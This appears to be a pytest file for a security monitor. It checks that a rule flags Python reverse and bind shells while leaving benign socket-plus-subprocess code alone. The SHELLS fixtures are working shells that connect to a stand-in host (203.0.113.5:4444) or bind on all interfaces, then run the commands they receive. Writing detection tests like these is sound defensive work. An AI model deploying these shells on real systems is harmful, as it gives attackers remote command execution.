"""Socket + subprocess in one python file is not a reverse shell by itself: the command
a reverse shell runs is the data it received (a value, or ``shell=True``), or the
socket is the process's stdio. Honest health checks, echo-server tests and socket
servers next to a written-out subprocess call stay clean; the shells stay critical."""

from __future__ import annotations

import pytest

from bastion.analysis import analyze_command
from bastion.events import Event, EventKind
from bastion.policy import Policy
from bastion.rules import load_ruleset

HONEST = {
    "health check then git": (
        "import socket, subprocess\ns = socket.create_connection(('allowed.lab.test', 80), 5)\n"
        "s.sendall(b'GET /status HTTP/1.0\\r\\n\\r\\n')\nprint(s.recv(100))\n"
        "subprocess.run(['git', 'status'])\n"),
    "socketserver and a CLI": (
        "import socketserver, subprocess\nclass H(socketserver.BaseRequestHandler):\n"
        "    def handle(self):\n        self.request.sendall(self.request.recv(1024).upper())\n"
        "subprocess.run(['python3', '-m', 'mypkg', '--version'])\n"
        "with socketserver.TCPServer(('0.0.0.0', 9000), H) as s: s.handle_request()\n"),
}
SHELLS = {
    "recv into check_output": (
        "import socket, subprocess\ns = socket.socket(); s.connect(('203.0.113.5', 4444))\n"
        "while True:\n    d = s.recv(1024).decode()\n    s.send(subprocess.check_output(d, shell=True))\n"),
    "recv into popen": (
        "import socket, os\ns = socket.create_connection(('203.0.113.5', 4444))\n"
        "while 1:\n    c = s.recv(99)\n    s.send(os.popen(c.decode()).read().encode())\n"),
    "bind on every interface": (
        "import socket as k, subprocess as sp\nl=k.socket(); l.bind(('0.0.0.0',4444)); l.listen(1)\n"
        "c,a=l.accept()\nwhile True:\n    d=c.recv(1024).decode()\n"
        "    p=sp.Popen(d,shell=True,stdout=sp.PIPE); c.sendall(p.stdout.read())\n"),
}


def _rules(code: str) -> set[str]:
    ruleset = load_ruleset(Policy.default())
    fields = analyze_command("python3 - <<'EOF'\n" + code + "EOF")
    return {m.rule_id for m in ruleset.match(Event(kind=EventKind.COMMAND, fields=fields))}


@pytest.mark.parametrize("name", list(HONEST))
def test_honest_socket_code_with_a_written_out_subprocess_is_clean(name: str) -> None:
    assert not {r for r in _rules(HONEST[name]) if r.startswith("shells.")}


@pytest.mark.parametrize("name", list(SHELLS))
def test_received_data_run_as_a_command_is_a_shell(name: str) -> None:
    assert "shells.interpreter_socket_shell" in _rules(SHELLS[name])
